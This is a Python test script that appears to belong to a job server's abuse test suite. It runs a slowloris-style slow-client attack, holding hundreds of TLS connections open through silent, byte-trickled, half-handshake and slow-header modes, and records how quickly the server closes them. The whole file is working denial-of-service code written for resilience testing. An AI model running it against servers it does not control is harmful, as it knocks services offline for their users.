#!/usr/bin/env python3
"""t/slowloris.py: a slow client attack on the job API, for t/jobd-abuse.bats and
bench/abuse.sh. Holds CONNS connections to HOST:PORT for SECS seconds, each in one of
the modes (round robin over --modes):

  silent   connects and never sends a byte
  trickle  sends a real TLS ClientHello one byte every --gap seconds
  half     sends the whole ClientHello at once, then nothing (a half-finished handshake)
  head     finishes the TLS handshake, then sends a request head one byte every --gap
           seconds (one TLS record per byte)

A connection the server closes is opened again (after --again seconds), so the attack
keeps CONNS connections held. Every half second and at the end it writes to --status a
JSON object: held (connections open now), opened, closed (by the server), lives (how
long each closed connection lasted, seconds, at most the last 2000). Standard library
only. Leaves out legitimate requests (the tests and the bench make those with curl).
"""
import argparse
import errno
import json
import os
import resource
import selectors
import socket
import ssl
import sys
import time


def client_hello(name):
    """The bytes of a real TLS ClientHello for SNI name (never sent through ssl)."""
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=name)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


class Conn:
    def __init__(self, mode):
        self.mode, self.sock, self.tls = mode, None, None
        self.sent, self.born, self.next_send, self.up = 0, 0.0, 0.0, False


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", required=True)
    ap.add_argument("--port", type=int, default=7090)
    ap.add_argument("--name", default="master.legion")
    ap.add_argument("--conns", type=int, default=300)
    ap.add_argument("--secs", type=float, default=60)
    ap.add_argument("--modes", default="silent,trickle,half,head")
    ap.add_argument("--gap", type=float, default=1.0)
    ap.add_argument("--again", type=float, default=0.05)
    ap.add_argument("--status", default="-")
    a = ap.parse_args()

    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, a.conns + 256))
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    hello = client_hello(a.name)
    head = b"GET /v1/health HTTP/1.1\r\nHost: " + a.name.encode() + b"\r\nX-Slow: " + b"a" * 4000
    tctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    tctx.check_hostname = False
    tctx.verify_mode = ssl.CERT_NONE
    sel = selectors.DefaultSelector()
    modes = a.modes.split(",")
    conns = [Conn(modes[i % len(modes)]) for i in range(a.conns)]
    stats = {"held": 0, "opened": 0, "closed": 0, "failed": 0, "lives": []}
    pending = {c: 0.0 for c in conns}  # connections to open, and from when
    start = time.time()
    end = start + a.secs

    def write_status():
        stats["held"] = sum(1 for c in conns if c.up)
        stats["lives"] = stats["lives"][-2000:]
        doc = json.dumps(stats)
        if a.status == "-":
            print(doc, flush=True)
            return
        tmp = a.status + ".tmp"
        with open(tmp, "w") as f:
            f.write(doc)
        os.replace(tmp, a.status)

    def drop(c, by_server):
        if c.sock is not None:
            try:
                sel.unregister(c.sock)
            except (KeyError, ValueError):
                pass
            c.sock.close()
        if by_server and c.up:  # after the connection was up
            stats["closed"] += 1
            stats["lives"].append(round(time.time() - c.born, 2))
        c.sock = c.tls = None
        c.up = False
        pending[c] = time.time() + a.again

    def open_conn(c):
        now = time.time()
        try:
            if c.mode == "head":  # a real handshake first, blocking (bounded)
                s = socket.create_connection((a.host, a.port), timeout=3)
                t = tctx.wrap_socket(s, server_hostname=a.name)
                t.setblocking(False)
                c.sock = c.tls = t  # wrap_socket detached s
            else:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                s.setblocking(False)
                s.connect_ex((a.host, a.port))
                c.sock = s
        except (OSError, ssl.SSLError):
            stats["failed"] += 1
            c.sock = c.tls = None
            pending[c] = now + 0.5
            return
        c.born, c.sent, c.next_send = now, 0, float("inf")
        if c.tls:
            connected(c, now)
        else:  # writable once connected
            sel.register(c.sock, selectors.EVENT_WRITE, c)

    def connected(c, now):
        if not c.tls:
            err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            sel.unregister(c.sock)
            if err:
                stats["failed"] += 1
                c.sock.close()
                c.sock = None
                pending[c] = now + 0.5
                return
        stats["opened"] += 1
        c.up, c.born, c.next_send = True, now, now
        sel.register(c.sock, selectors.EVENT_READ, c)

    def send_some(c, now):
        try:
            if c.mode == "trickle" and c.sent < len(hello):
                n = c.sock.send(hello[c.sent : c.sent + 1])
                c.sent += n
                c.next_send = now + a.gap
            elif c.mode == "half" and c.sent == 0:
                c.sock.send(hello)
                c.sent = len(hello)
                c.next_send = float("inf")
            elif c.mode == "head" and c.sent < len(head):
                c.tls.send(head[c.sent : c.sent + 1])
                c.sent += 1
                c.next_send = now + a.gap
            else:
                c.next_send = float("inf")
        except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            c.next_send = now + 0.1
        except OSError as e:
            if e.errno in (errno.ENOTCONN, errno.EAGAIN):
                c.next_send = now + 0.1
            else:
                drop(c, True)

    last_status = 0.0
    while time.time() < end:
        now = time.time()
        for c, when in list(pending.items()):
            if when <= now:
                del pending[c]
                open_conn(c)
        for key, _ in sel.select(timeout=0.05):
            c = key.data
            if not c.up:
                connected(c, time.time())
                continue
            try:
                data = c.sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except (OSError, ssl.SSLError):
                data = b""
            if not data:
                drop(c, True)
        now = time.time()
        for c in conns:
            if c.up and c.next_send <= now:
                send_some(c, now)
        if now - last_status >= 0.5:
            write_status()
            last_status = now
    write_status()
    return 0


if __name__ == "__main__":
    sys.exit(main())
